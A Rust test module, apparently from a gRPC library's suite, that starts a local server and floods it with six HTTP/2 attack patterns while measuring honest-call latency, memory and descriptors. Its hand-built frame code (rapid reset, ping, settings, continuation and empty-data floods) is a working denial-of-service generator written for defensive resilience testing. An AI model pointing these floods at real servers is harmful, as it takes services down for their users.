//! Peers that send what costs us and is worth nothing, as fast as they can, beside honest calls.

use std::io::{Read, Write};
use std::net::TcpStream;
use std::time::{Duration, Instant};

use stubwright::Channel;
use stubwright_tests::pb::probe::v1::{ProbeStub, Request};

use crate::child::{Process, server};
use crate::serve::runtime;

const KINDS: [&str; 6] = [
    "rapid-reset",
    "ping",
    "settings",
    "empty-data",
    "continuation",
    "one-byte-data",
];

/// What the server's memory may grow by, in KiB.
const MOST_MEMORY: u64 = 64 * 1024;

/// Runs every flood, measures honest calls beside it, and the server's memory during and after it.
pub fn run(seconds: usize) -> Option<bool> {
    let (server, address) = server();
    let mut fine = true;
    let alone = honest(&address, Duration::from_secs(1))?;
    println!("{:>14}: {alone}", "no flood");
    for kind in KINDS {
        let before = (server.memory(), server.descriptors());
        let mut attacker = Process::start(&["flood", kind, &address, &seconds.to_string()]);
        let mut most = 0;
        let honest = {
            let probe = std::thread::spawn({
                let address = address.clone();
                move || honest(&address, Duration::from_secs(seconds as u64))
            });
            while !probe.is_finished() {
                most = most.max(server.memory());
                std::thread::sleep(Duration::from_millis(20));
            }
            probe.join().ok()??
        };
        let told = attacker.hear();
        drop(attacker);
        for _ in 0..500 {
            if server.descriptors() <= before.1 {
                break;
            }
            std::thread::sleep(Duration::from_millis(10));
        }
        let grown = most.saturating_sub(before.0);
        println!(
            "{kind:>14}: {honest}; memory {} + {grown} KiB, {} after; descriptors {} -> {}; {told}",
            before.0,
            server.memory(),
            before.1,
            server.descriptors()
        );
        fine &= grown < MOST_MEMORY && honest.failed == 0 && server.descriptors() <= before.1;
    }
    Some(fine)
}

/// What honest calls saw.
struct Honest {
    calls: usize,
    failed: usize,
    median: Duration,
    p99: Duration,
}

impl std::fmt::Display for Honest {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let Honest {
            calls,
            failed,
            median,
            p99,
        } = self;
        write!(
            f,
            "{calls} honest calls, {failed} failed, median {median:?}, p99 {p99:?}"
        )
    }
}

/// Calls one after the other for so long.
fn honest(address: &str, time: Duration) -> Option<Honest> {
    runtime().block_on(async {
        let stub = ProbeStub::new(Channel::insecure(address).ok()?);
        let (start, mut took, mut failed) = (Instant::now(), Vec::new(), 0);
        while start.elapsed() < time {
            let before = Instant::now();
            if stub.unary(Request::default()).await.is_err() {
                failed += 1;
            }
            took.push(before.elapsed());
        }
        took.sort_unstable();
        Some(Honest {
            calls: took.len(),
            failed,
            median: *took.get(took.len() / 2)?,
            p99: *took.get(took.len() * 99 / 100)?,
        })
    })
}

/// The attacker: connects again whenever it is thrown out.
pub fn flood(kind: &str, address: &str, seconds: usize) -> Option<bool> {
    let (start, mut connections, mut bytes) = (Instant::now(), 0_u64, 0_u64);
    while start.elapsed() < Duration::from_secs(seconds as u64) {
        let Ok(mut socket) = TcpStream::connect(address) else {
            continue;
        };
        connections += 1;
        // What the server answers is read by nobody in time; it is not to block the flood either.
        drop(socket.set_write_timeout(Some(Duration::from_millis(200))));
        drop(socket.set_read_timeout(Some(Duration::from_millis(1))));
        let mut opening = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
        opening.extend(frame(4, 0, 0, &[]));
        let mut stream = 1;
        if socket.write_all(&opening).is_err() {
            continue;
        }
        while start.elapsed() < Duration::from_secs(seconds as u64) {
            let wave = wave(kind, &mut stream)?;
            if socket.write_all(&wave).is_err() {
                break;
            }
            bytes += wave.len() as u64;
            // The server's words, so that its output is not what stops it.
            let mut words = [0; 16 * 1024];
            if matches!(socket.read(&mut words), Ok(0)) {
                break;
            }
        }
    }
    println!("{connections} connections, {} KiB sent", bytes / 1024);
    Some(true)
}

/// Some hundred frames of a flood.
fn wave(kind: &str, stream: &mut u32) -> Option<Vec<u8>> {
    let mut wave = Vec::new();
    if matches!(kind, "empty-data" | "one-byte-data") && *stream == 1 {
        wave.extend(frame(1, 4, 1, &request()));
        *stream = 3;
    }
    if kind == "continuation" && *stream == 1 {
        wave.extend(frame(1, 0, 1, &request()));
        *stream = 3;
    }
    for _ in 0..200 {
        match kind {
            "rapid-reset" => {
                wave.extend(frame(1, 5, *stream, &request()));
                wave.extend(frame(3, 0, *stream, &8_u32.to_be_bytes()));
                *stream += 2;
            }
            "ping" => wave.extend(frame(6, 0, 0, &[0; 8])),
            "settings" => wave.extend(frame(4, 0, 0, &[0, 4, 0, 1, 0, 0])),
            "empty-data" => wave.extend(frame(0, 0, 1, &[])),
            "one-byte-data" => wave.extend(frame(0, 0, 1, &[0])),
            "continuation" => wave.extend(frame(9, 0, 1, &[0x40, 1, b'a', 1, b'b'])),
            _ => return None,
        }
    }
    Some(wave)
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len())
        .unwrap_or(u32::MAX)
        .to_be_bytes();
    let mut frame = vec![length[1], length[2], length[3], kind, flags];
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// The head of a client-streaming call, in literals.
fn request() -> Vec<u8> {
    let mut block = vec![0x83, 0x86];
    let literal = |block: &mut Vec<u8>, name: &str, value: &str| {
        block.push(0);
        for text in [name, value] {
            block.push(u8::try_from(text.len()).unwrap_or(0));
            block.extend(text.as_bytes());
        }
    };
    literal(&mut block, ":path", "/probe.v1.Probe/ClientStream");
    literal(&mut block, ":authority", "localhost");
    literal(&mut block, "content-type", "application/grpc");
    block
}
